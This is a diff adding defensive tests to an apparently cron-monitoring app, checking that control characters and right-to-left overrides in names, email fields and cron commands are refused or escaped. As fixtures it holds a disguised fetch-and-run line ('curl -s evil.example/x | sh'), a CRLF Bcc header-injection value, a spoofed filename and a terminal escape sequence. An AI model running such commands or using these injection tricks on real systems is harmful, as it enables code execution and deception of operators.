@@ -65,6 +65,39 @@ describe('names with control characters are refused', () => {
     expect(servers).toEqual([]);
   });
 
+  it("a server's cron command keeps them as data (it is what the crontab holds), and the alert's words write them out", async () => {
+    await agent.api('/api/servers', { method: 'POST', json: { name: 'db', ip_address: '10.0.0.6', identifier: 'db-6' } });
+    // A line disguised with a right-to-left override reads as harmless; the alert must show what it is.
+    const command = 'curl -s evil.example/x | sh #\u202e hs.pukcab/nib/lacol/rsu/';
+    const answer = await agent.api('/api/servers/alert', { method: 'POST', json: { username: 'root', server_id: 'db-6', command: `${command}\u001b[8m`, change: 'added' } });
+    expect(answer.status).toBe(201);
+    const { alert, notification } = await answer.json();
+    expect(alert.command).toBe(`${command}\u001b[8m`);
+    expect(notification.data.command).toBe(`${command}\u001b[8m`);
+    expect(notification.data.description).toBe(
+      'A cron job of root was added on db (db-6): curl -s evil.example/x | sh #\\u202e hs.pukcab/nib/lacol/rsu/\\u001b[8m',
+    );
+    expect(notification.data.description.includes('\u202e') || notification.data.description.includes('\u001b')).toBe(false);
+  });
+
+  it('maintenance windows and the addresses of an email channel refuse them too', async () => {
+    const window = { starts_at: '2026-12-01T00:00:00Z', ends_at: '2026-12-01T01:00:00Z' };
+    await expect422(await agent.api('/api/maintenance-windows', { method: 'POST', json: { ...window, name: 'db\u001b[2J' } }), 'name', 'ESC (U+001B)');
+    await expect422(await agent.api('/api/maintenance-windows', { method: 'POST', json: { ...window, name: 'gnp.\u202eexe' } }), 'name', 'U+202E');
+    expect(agent.store.maintenanceWindows.list(1)).toEqual([]);
+    const made = await (await agent.api('/api/maintenance-windows', { method: 'POST', json: { ...window, name: 'upgrade' } })).json();
+    await expect422(await agent.api(`/api/maintenance-windows/${made.id}`, { method: 'PATCH', json: { name: 'up\u0007' } }), 'name', 'BEL (U+0007)');
+    const mail = { host: 'smtp.example.com', from: 'cron@example.com', to: 'ops@example.com' };
+    for (const [field, value, named] of [
+      ['from', '"Ops\r\nBcc: x@example.com" <cron@example.com>', 'a carriage return (U+000D)'],
+      ['to', 'ops@example.com, \u202eevil@example.com', 'U+202E'],
+    ] as const) {
+      const answer = await agent.api('/api/channels', { method: 'POST', json: { name: 'mail', kind: 'email', settings: { ...mail, [field]: value } } });
+      expect(answer.status).toBe(422);
+      expect((await answer.json()).errors).toEqual({ [`settings.${field}`]: [`The ${field} field must not contain control characters (it has ${named}).`] });
+    }
+  });
+
   it('a job line refuses a name or server with one, and makes no monitor', async () => {
     const query = new URLSearchParams({ create: '1', schedule: '0 3 * * *', name: 'nightly\u001b]52;c;aGk=\u0007' });
     const response = await fetch(`${agent.url}/api/pulse/key/${ping}/nightly?${query}`);
